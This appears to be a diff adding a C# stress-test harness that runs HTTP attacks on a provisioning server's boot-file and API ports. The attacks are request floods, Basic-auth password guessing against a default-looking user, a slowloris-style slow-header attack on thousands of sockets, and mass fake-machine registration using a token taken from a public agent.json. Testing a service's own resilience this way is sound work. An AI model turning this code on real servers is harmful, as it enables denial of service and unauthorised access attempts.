@@ -1,0 +1,111 @@
+using System.Net;
+using System.Net.Http.Headers;
+using System.Net.Sockets;
+using System.Text;
+using System.Text.Json.Nodes;
+
+namespace Anvil.Swarm.Attacks;
+
+/// <summary>Attacks by HTTP, from all of the attacker's addresses.</summary>
+internal static class HttpAttacks
+{
+    private const int FilePort = 8091;
+    private const int ApiPort = 8092;
+
+    /// <summary>64 connections that ask for boot files that are not there, as fast as they are answered.</summary>
+    public static Task MissesAsync(AttackTarget target, CancellationToken cancellation) => ManyAsync(64, async number =>
+    {
+        using var http = Client(target, number);
+        for (var i = 0; ; i++)
+        {
+            using var answer = await http.GetAsync($"http://{target.Server}:{FilePort}/nothing/{number}/{i}", cancellation);
+            target.Count();
+        }
+    }, cancellation);
+
+    /// <summary>A hundred connections with wrong passwords.</summary>
+    public static Task PasswordsAsync(AttackTarget target, CancellationToken cancellation) => ManyAsync(100, async number =>
+    {
+        using var http = Client(target, number);
+        for (var i = 0; ; i++)
+        {
+            using var request = new HttpRequestMessage(HttpMethod.Get, $"http://{target.Server}:{ApiPort}/api/v3/machines");
+            request.Headers.Authorization = new AuthenticationHeaderValue("Basic",
+                Convert.ToBase64String(Encoding.UTF8.GetBytes($"{(i % 2 == 0 ? "rocketskates" : $"nobody-{number}")}:wrong-{i}")));
+            using var answer = await http.SendAsync(request, cancellation);
+            target.Count();
+            await Task.Delay(20, cancellation);
+        }
+    }, cancellation);
+
+    /// <summary>Three thousand connections to the API and to boot HTTP that send a request's head one octet in four seconds.</summary>
+    public static Task ConnectionsAsync(AttackTarget target, CancellationToken cancellation) => ManyAsync(3000, async number =>
+    {
+        await Task.Delay(number, cancellation);
+        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
+        socket.Bind(new IPEndPoint(target.Own(number), 0));
+        await socket.ConnectAsync(target.Server, number % 2 == 0 ? FilePort : ApiPort, cancellation);
+        target.Count();
+        foreach (var octet in Encoding.ASCII.GetBytes("GET /api/v3/machines HTTP/1.1\r\nX-Slow: " + new string('x', 4000)))
+        {
+            await socket.SendAsync(new[] { octet }, cancellation);
+            await Task.Delay(TimeSpan.FromSeconds(4), cancellation);
+        }
+    }, cancellation);
+
+    /// <summary>
+    /// Eight strangers that register machines of 200 KiB as fast as they are answered, with the token of agent.json, and then write
+    /// their facts again and again.
+    /// </summary>
+    public static Task RegistrationsAsync(AttackTarget target, CancellationToken cancellation) => ManyAsync(8, async number =>
+    {
+        using var http = Client(target, number);
+        for (var i = 0; ; i++)
+        {
+            http.DefaultRequestHeaders.Authorization = null;
+            using var config = await http.GetAsync($"http://{target.Server}:{FilePort}/sledgehammer/agent.json", cancellation);
+            target.Count();
+            if (!config.IsSuccessStatusCode) continue;
+            var node = JsonNode.Parse(await config.Content.ReadAsStringAsync(cancellation))!;
+            http.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", node["Token"]?.ToString());
+            var body = $$$"""
+                {"Name":"stranger-{{{number}}}-{{{i}}}","HardwareAddrs":["06:66:00:{{{number:x2}}}:{{{i >> 8 & 255:x2}}}:{{{i & 255:x2}}}"],
+                "Params":{"hardware/x":"{{{new string('x', 200 << 10)}}}"}}
+                """;
+            using var content = new StringContent(body, Encoding.UTF8, "application/json");
+            using var made = await http.PostAsync($"http://{target.Server}:{ApiPort}/api/v3/machines", content, cancellation);
+            target.Count();
+        }
+    }, cancellation);
+
+    /// <summary>So many at once, each anew when it failed, until cancelled.</summary>
+    private static Task ManyAsync(int count, Func<int, Task> act, CancellationToken cancellation)
+        => Task.WhenAll(Enumerable.Range(0, count).Select(async number =>
+        {
+            while (!cancellation.IsCancellationRequested)
+            {
+                try
+                {
+                    await act(number);
+                }
+                catch (Exception e) when (e is HttpRequestException or SocketException or IOException
+                    || (e is OperationCanceledException && !cancellation.IsCancellationRequested))
+                {
+                    await Task.Delay(100, cancellation);
+                }
+            }
+        }));
+
+    private static HttpClient Client(AttackTarget target, int number) => new(new SocketsHttpHandler
+    {
+        UseProxy = false,
+        ConnectCallback = async (context, cancellation) =>
+        {
+            var socket = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp) { NoDelay = true };
+            socket.Bind(new IPEndPoint(target.Own(number), 0));
+            await socket.ConnectAsync(context.DnsEndPoint.Host, context.DnsEndPoint.Port, cancellation);
+            return new NetworkStream(socket, ownsSocket: true);
+        },
+    })
+    { Timeout = TimeSpan.FromSeconds(60) };
+}
